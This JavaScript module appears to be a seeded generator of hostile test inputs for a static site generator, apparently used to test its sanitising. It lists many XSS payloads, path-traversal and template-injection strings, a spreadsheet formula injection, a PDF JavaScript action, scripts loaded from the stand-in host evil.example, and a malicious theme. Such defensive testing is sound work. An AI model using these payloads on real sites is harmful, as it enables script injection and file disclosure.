// Inputs from hostile hands, in kinds: { kind, text } for what goes into a case's body,
// { kind, files } for whole files, by path in a site. A generator with a fixed seed varies
// them as browsers forgive: cases, spaces, controls, entities, quotes.

/** A small generator of random numbers (mulberry32). */
function randomOf(seed) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let value = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value;
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
  };
}

/** The host that nothing may be asked of. */
export const HOST = "evil.example";

/** Ways to write an address on another host. */
const ADDRESSES = [
  `//${HOST}/a.png`,
  `https://${HOST}/a.png`,
  `\\\\${HOST}\\a.png`,
  `/\t/${HOST}/a.png`,
  `/\n/${HOST}/a.png`,
  `\thttps://${HOST}/a.png`,
  `ht\ntps://${HOST}/a.png`,
  `&#x2f;&#x2f;${HOST}/a.png`,
  `/&Tab;/${HOST}/a.png`,
  `/&NewLine;/${HOST}/a.png`,
  `https&colon;//${HOST}/a.png`,
  `https:${HOST}/a.png`,
  `https:\\\\${HOST}/a.png`,
  `HTTPS://${HOST}/a.png`,
  `//user@${HOST}:80/a.png`,
  `ftp://${HOST}/a.png`,
  `../../../../../../canario.txt`,
  `..\\..\\..\\canario.txt`,
  `%2e%2e/%2e%2e/canario.txt`,
  `.%2e/..%2f../canario.txt`,
  `file:///etc/hostname`,
  `/etc/hostname`,
];

/** Ways to write an address that runs. */
const SCRIPTS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java&#10;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x0000006a;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "blob:null/1",
  "view-source:javascript:alert(1)",
];

/** Markup that loads from ADDRESS. */
const LOADING = [
  `<img src="ADDRESS">`,
  `<img src=ADDRESS>`,
  `<img srcset="ADDRESS 1x, ADDRESS 2x">`,
  `<IMG/SRC="ADDRESS"/>`,
  `<picture><source srcset="ADDRESS"><img alt=a></picture>`,
  `<video poster="ADDRESS"></video>`,
  `<video src="ADDRESS" autoplay></video>`,
  `<audio src="ADDRESS" autoplay></audio>`,
  `<embed src="ADDRESS">`,
  `<object data="ADDRESS"></object>`,
  `<iframe src="ADDRESS"></iframe>`,
  `<link rel=stylesheet href="ADDRESS">`,
  `<link rel=prefetch href="ADDRESS">`,
  `<style>@import "ADDRESS";</style>`,
  `<p style="background:url(ADDRESS)">a</p>`,
  `<table background="ADDRESS"><tr><td>a</table>`,
  `<body background="ADDRESS">`,
  `<input type=image src="ADDRESS">`,
  `<svg><image href="ADDRESS"/></svg>`,
  `<svg><use xlink:href="ADDRESS#a"/></svg>`,
  `<svg><style>@import url(ADDRESS);</style></svg>`,
  `<math><mtext><img src="ADDRESS"></mtext></math>`,
  `<meta http-equiv=refresh content="0;url=ADDRESS">`,
  `<base href="ADDRESS">`,
  `<!--><img src="ADDRESS"><!-- -->`,
  `<!---><img src="ADDRESS">-->`,
  `<!-- --!><img src="ADDRESS">`,
  `<!-- a <!-- b --> <img src="ADDRESS"> -->`,
  `<![CDATA[><img src="ADDRESS">]]>`,
  `<?a ?><img src="ADDRESS">`,
  `</p><img src="ADDRESS"`,
  `<noscript><p title="</noscript><img src='ADDRESS'>"></noscript>`,
  `<form action="ADDRESS"><input autofocus onfocus="form.submit()"></form>`,
  `![a](<ADDRESS>)`,
  `[![a](<ADDRESS>)](casos.md)`,
];

/** Markup that leads to or runs SCRIPT. */
const RUNNING = [
  `<a href="SCRIPT">a</a>`,
  `<a href='SCRIPT' ping="https://${HOST}/">a</a>`,
  `[a](<SCRIPT>)`,
  `<form action="SCRIPT"><button autofocus>a</button></form>`,
  `<button formaction="SCRIPT">a</button>`,
  `<iframe src="SCRIPT"></iframe>`,
  `<svg><a xlink:href="SCRIPT"><text>a</text></a></svg>`,
  `<svg><animate attributeName=href values="SCRIPT"></svg>`,
  `<math href="SCRIPT">a</math>`,
  `<object data="SCRIPT"></object>`,
  `<embed src="SCRIPT">`,
  `<meta http-equiv=refresh content="0;url=SCRIPT">`,
];

/** Markup that runs by itself. */
const SELF_RUNNING = [
  "<script>alert(1)</script>",
  "<ScRiPt >alert(1)</sCrIpT >",
  "<script src=//evil.example/a.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x oNeRrOr\n=\nalert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=//evil.example/a.js></script></svg>",
  "<math><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<details open ontoggle=alert(1)>a</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<template><script>alert(1)</script></template>",
  "<noscript><style></noscript><img src=x onerror=alert(1)>",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
  "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
  "<plaintext><script>alert(1)</script>",
  "<style><script>alert(1)</script></style>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<a id=x tabindex=1 onfocus=alert(1) autofocus></a>",
  "<p id=__proto__ class='x' onclick=alert(1)>a</p>",
  "<marquee onstart=alert(1)>a</marquee>",
  "<body onload=alert(1)>",
  "<frameset onload=alert(1)></frameset>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img \"\"\"><script>alert(1)</script>\">",
  "`<script>alert(1)</script>` ``` <script>alert(1)</script>",
  "{{ config }} {% include \"../../canario.txt\" %} {{ get_env(name=\"HOME\") }}",
  "${alert(1)} #{alert(1)} <%= alert(1) %>",
  "> [!NOTE]<script>alert(1)</script>\n> a",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "| a |\n| - |\n| <script>alert(1)</script> |",
  "# a {#\"onmouseover=alert(1)}",
  "```html\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
  "```</style><script>alert(1)</script>\na\n```",
  "[a]: javascript:alert(1)\n\n[a]",
  "<javascript:alert(1)>",
  "<https://evil.example/\"onmouseover=\"alert(1)>",
  "![\"onerror=alert(1) x=\"](<x\" onerror=\"alert(1)>)",
];

/** Values in front matter that pages show or lead to. */
const VALUES = [
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "'-alert(1)-'",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "javascript:alert(1)",
  "{{ 7*7 }}{% raw %}",
  "\u2028alert(1)\u2029",
  "\u202e)1(trela\u202c",
  "]]><script>alert(1)</script>",
  "\u0000\u0001\u001f\ufffe",
  "=cmd|' /C calc'!A0",
];

const FIELDS = [
  (value) => `resumen: ${value}`,
  (value) => `entidad: ${value}`,
  (value) => `contactos: [{nombre: ${value}, correo: ${value}, telefono: ${value}}]`,
  (value) => `fuentes: [{titulo: ${value}, enlace: ${value}}]`,
  (value) => `resultados: [{indicador: ${value}, unidad: ${value}, final: {valor: 1, anio: 2020}}]`,
  (value) => `portada: {imagen: ${value}, descripcion: ${value}}`,
  (value) => `direcciones_anteriores: [${value}]`,
  (value) => `aliados: [${value}]`,
];

/** Names of files that a page links to. */
const NAMES = [
  "../../../canario.txt",
  "..\\..\\canario.txt",
  "foto.svg",
  "foto.svgz",
  "foto.html",
  "foto.php",
  "foto.pdf.html",
  "foto.pdf\u202efdp.exe",
  "foto.ｈｔｍｌ",
  "foto.js_",
  "con.pdf",
  "aux .pdf",
  "a\"onmouseover=alert(1).pdf",
  "<img src=x onerror=alert(1)>.pdf",
  "javascript:alert(1).pdf",
  "a#b?c.pdf",
  "%2e%2e%2fcanario.txt",
  "é\u0301.pdf",
  ".htaccess",
  "web.config",
];

/** What a download really is, whatever its name says. */
const CONTENTS = [
  "<!doctype html><script>alert(1)</script>",
  "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
  "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
  "GIF89a/*<script>alert(1)</script>*/",
  "=cmd|' /C calc'!A0;1",
];

const THEME_FILES = {
  "theme.yaml": "base: ../../..\nlogo: ../../../canario.txt\n",
  "templates/footer.html": "{% include \"../../../canario.txt\" %}",
  "templates/header.html": "<script>alert(1)</script>",
  "static/mio.css": `@import url(//${HOST}/a.css); body { background: url(//${HOST}/a.png) }`,
  "static/../../../fuera.txt": "fuera",
  "i18n/es.ftl": "home-title = <script>alert(1)</script>",
};

/** Returns all inputs; the same for the same seed. */
export function inputs(seed = 1) {
  const random = randomOf(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const body = (kind, text) => ({ kind, text });
  const all = [
    ...LOADING.map((markup) => body("loads", markup.replaceAll("ADDRESS", pick(ADDRESSES)))),
    ...ADDRESSES.map((address) => body("loads", pick(LOADING).replaceAll("ADDRESS", address))),
    ...ADDRESSES.map((address) => body("leads", `<a href="${address}">a</a> [b](<${address.replace(/[\n\t]/g, " ")}>)`)),
    ...RUNNING.map((markup) => body("runs", markup.replaceAll("SCRIPT", pick(SCRIPTS)))),
    ...SCRIPTS.map((script) => body("runs", pick(RUNNING).replaceAll("SCRIPT", script))),
    ...SELF_RUNNING.map((markup) => body("runs by itself", markup)),
    ...VALUES.flatMap((value) => [pick(FIELDS), pick(FIELDS), pick(FIELDS)].map((field) => ({ kind: "front matter", front: field(JSON.stringify(value)) }))),
    ...VALUES.map((value) => ({ kind: "front matter", title: value })),
    ...NAMES.map((name) => ({ kind: "names", text: `[a](<${name}>)`, file: [name, pick(CONTENTS)] })),
    ...CONTENTS.flatMap((content) => ["a.txt", "a.pdf", "a.csv", "a.jpg"].map((name) => ({ kind: "downloads", text: `[a](${name})`, file: [name, content] }))),
    ...Object.entries(THEME_FILES).map(([path, text]) => ({ kind: "themes", theme: [path, text] })),
  ];
  return [...all, ...all.filter(({ text, kind }) => text && kind !== "names" && kind !== "downloads").map((input) => body(input.kind, varied(input.text, random)))];
}

/** Varies markup in a way that browsers forgive. */
function varied(text, random) {
  const ways = [
    (markup) => markup.replace(/[a-z]/gi, (letter) => (random() < 0.3 ? swapped(letter) : letter)),
    (markup) => markup.replace(/<([a-z]+) /gi, "<$1/"),
    (markup) => markup.replace(/<([a-z]+) /gi, "<$1\f"),
    (markup) => markup.replaceAll("=\"", " = \""),
    (markup) => `<div>${markup}`,
    (markup) => `\n\n<!-- a\n-->${markup}`,
    (markup) => `<p title="a>${markup}`,
    (markup) => `*a ${markup} a*`,
    (markup) => `- ${markup.replaceAll("\n", "\n  ")}`,
    (markup) => markup.replaceAll("<", "<\u0000"),
  ];
  return ways[Math.floor(random() * ways.length)](text);
}

function swapped(letter) {
  const upper = letter.toUpperCase();
  return letter === upper ? letter.toLowerCase() : upper;
}
